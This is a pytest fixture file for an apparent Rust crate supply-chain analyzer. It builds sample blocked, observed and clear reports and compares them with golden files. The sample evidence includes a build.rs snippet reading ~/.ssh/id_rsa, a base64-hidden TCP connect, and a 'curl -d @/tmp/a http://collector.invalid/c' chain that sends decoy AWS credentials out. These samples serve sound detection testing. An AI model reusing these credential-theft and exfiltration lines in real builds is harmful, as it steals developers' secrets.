"""Reports made by hand: every kind of value once."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from analyzer.model import (
    Capability,
    Confidence,
    Coverage,
    CrateInfo,
    Evidence,
    Fact,
    FactKind,
    Field,
    Finding,
    Gap,
    GapKind,
    Guard,
    Indicator,
    Member,
    Moment,
    Observation,
    ObservedProcess,
    Origin,
    Payload,
    Phase,
    Point,
    Provenance,
    Report,
    Severity,
    Span,
    Stage,
    Support,
    Verdict,
)

BUILD = (Phase.BUILD_SCRIPT,)
CI = Guard(FactKind.GUARD_CI, "GITLAB_CI")
READ = Evidence(
    FactKind.FILE_READ,
    "{home}/.ssh/id_rsa",
    "source",
    Span("build.rs", 41, 9, 41, 1200, 1260),
    snippet='let key = std::fs::read(home.join(".ssh/id_rsa"))?;',
)
SENT = Evidence(
    FactKind.NET_CONNECT,
    "198.51.100.7:443",
    "sink",
    Span("build.rs", 44, 5, 44, 1300, 1350),
    snippet='TcpStream::connect(decode("MTk4LjUxLjEwMC43OjQ0Mw=="))?;',
    derivation=("base64 of MTk4LjUxLjEwMC43OjQ0Mw==",),
    guards=(CI,),
)
THEFT = Finding(
    rule="build-reads-credentials-and-connects",
    title="build-time code reads a secret file and reaches the network",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    support=Support.STATIC,
    phases=BUILD,
    attack=("T1552.004", "T1041"),
    techniques=("T35", "T40"),
    evidence=(READ, SENT),
    is_blocking=True,
)
ODD = Finding(
    rule="archive-anomaly",
    title="the archive holds what cargo never writes",
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    support=Support.MIXED,
    phases=(),
    attack=(),
    techniques=("T12",),
    evidence=(
        Evidence(FactKind.ARCHIVE_ANOMALY, "symlink", "", Member("x-1.2.3/link", 512)),
        Evidence(FactKind.PROCESS_SPAWN, "curl", "", Moment("build", 17, 3, 250)),
        Evidence(FactKind.REGISTRY_YANK, "yanked", "", Field("registry", "yanked")),
    ),
)
BLOCKED = Report(
    crate=CrateInfo("x", "1.2.3", "ab" * 32, Origin.CRATES_IO),
    verdict=Verdict.BLOCK,
    score=94,
    summary="Build-time code reads a secret file and reaches the network (and 1 more).",
    findings=(ODD, THEFT),
    capabilities=(Capability("network", BUILD, 1, SENT.where, ("198.51.100.7:443",)),),
    indicators=(Indicator("address", "198.51.100.7", SENT.where),),
    facts=(
        Fact(
            kind=FactKind.NET_CONNECT,
            subject="198.51.100.7:443",
            where=SENT.where,
            phases=BUILD,
            owner="build.rs::main",
            api="std::net::TcpStream::connect",
            data=("GET /",),
            guards=(CI,),
            derivation=SENT.derivation,
            snippet=SENT.snippet,
        ),
    ),
    gaps=(
        Gap(GapKind.MACRO, "a macro that cannot be read", "src/lib.rs", 7, (Phase.LIBRARY,)),
        Gap(
            GapKind.SYNTAX_LOST,
            "an identifier was lost",
            "build.rs",
            50,
            BUILD,
            is_blocking=True,
            remedy="read this file by hand",
        ),
    ),
    coverage=Coverage(5, 123_456, 3, 98_765, 2, 1, ((Phase.BUILD_SCRIPT, 1), (Phase.LIBRARY, 2))),
    points=(Point(THEFT.rule, 90, "critical severity"), Point(ODD.rule, 4, "beside it")),
    provenance=Provenance("0.1.0", "cd" * 32, "0123456789abcdef", "2026-11-25"),
)
CLEAR = replace(
    BLOCKED,
    crate=CrateInfo("y", "0.1.0", "ef" * 32, Origin.FOLDER),
    verdict=Verdict.CLEAR,
    score=0,
    summary="Nothing in 3 Rust files asks for a person's attention.",
    findings=(),
    gaps=(),
    points=(),
)

CHAIN = "build script of x 1.2.3 > sh > curl -d @/tmp/a http://collector.invalid/c"


def seen(kind: FactKind, subject: str, sequence: int, at_ms: int, *data: str) -> Fact:
    """A fact of the recorded build below."""
    where = Moment("build", 74, sequence, at_ms)
    return Fact(
        kind, subject, where, BUILD, "build: build script of x 1.2.3", "", data, (), (), CHAIN
    )


OBSERVATION = Observation(
    image="sha256:" + "0a" * 8,
    toolchain="rustc 1.95.0",
    profile="developer",
    stages=(
        Stage("build", "traced", "ended", 0, 26_341, 9_120),
        Stage("refused", "traced, the network refuses", "time-out", -9, 120_000, 640),
    ),
    processes=(
        ObservedProcess("build", 72, 60, 5_700, "build script of x 1.2.3", ("build-script-build",)),
        ObservedProcess("build", 73, 72, 5_790, "build script of x 1.2.3", ("sh", "-c", "curl")),
        ObservedProcess(
            "build", 74, 73, 5_800, "build script of x 1.2.3", ("curl", "-d", "@/tmp/a")
        ),
    ),
    payloads=(
        Payload(
            "build", 5_900, "udp", "192.0.2.9:9", "", 12, "00ff", "··", is_readable=False, answer=""
        ),
        Payload(
            "build",
            5_813,
            "http",
            "http://collector.invalid/c",
            "build script of x 1.2.3",
            156,
            b"POST /c HTTP/1.1\r\n\r\nW2RlZmF1bHRd".hex(),
            "POST /c HTTP/1.1\n\nW2RlZmF1bHRd",
            is_readable=True,
            answer="200, 2 bytes",
            decoys=("{home}/.aws/credentials (base64)",),
        ),
    ),
    lookups=("collector.invalid",),
    altered=("ca roots of webpki-roots",),
)
OBSERVED = replace(
    BLOCKED,
    findings=(
        Finding(
            rule="build-sends-planted-secret",
            title="a secret planted for the build left it by the network",
            severity=Severity.CRITICAL,
            confidence=Confidence.HIGH,
            support=Support.OBSERVED,
            phases=BUILD,
            attack=("T1041",),
            techniques=("T36",),
            evidence=(
                Evidence(
                    FactKind.DECOY_SENT,
                    "{home}/.aws/credentials",
                    "source",
                    Moment("build", 74, 0, 5_813),
                    CHAIN,
                ),
            ),
            is_blocking=True,
        ),
    ),
    facts=(
        seen(FactKind.DECOY_SENT, "{home}/.aws/credentials", 9, 5_813, "collector.invalid, base64"),
        seen(FactKind.FILE_READ, "{home}/.aws/credentials", 3, 5_798),
        seen(FactKind.DECOY_LEFT, "GITHUB_TOKEN", 0, 0, "the build's log", "clear"),
        *BLOCKED.facts,
    ),
    observation=OBSERVATION,
)


@pytest.fixture
def observed() -> Report:
    return OBSERVED


@pytest.fixture
def blocked() -> Report:
    return BLOCKED


@pytest.fixture
def clear() -> Report:
    return CLEAR


@pytest.fixture
def compare(request: pytest.FixtureRequest) -> Callable[[str, str], None]:
    """Compare with a golden file beside the test; `--snapshot-update` writes it."""

    def check(name: str, text: str) -> None:
        path = Path(__file__).parent / name
        if request.config.getoption("--snapshot-update"):
            path.write_text(text, encoding="utf-8")
        assert path.read_text(encoding="utf-8") == text

    return check
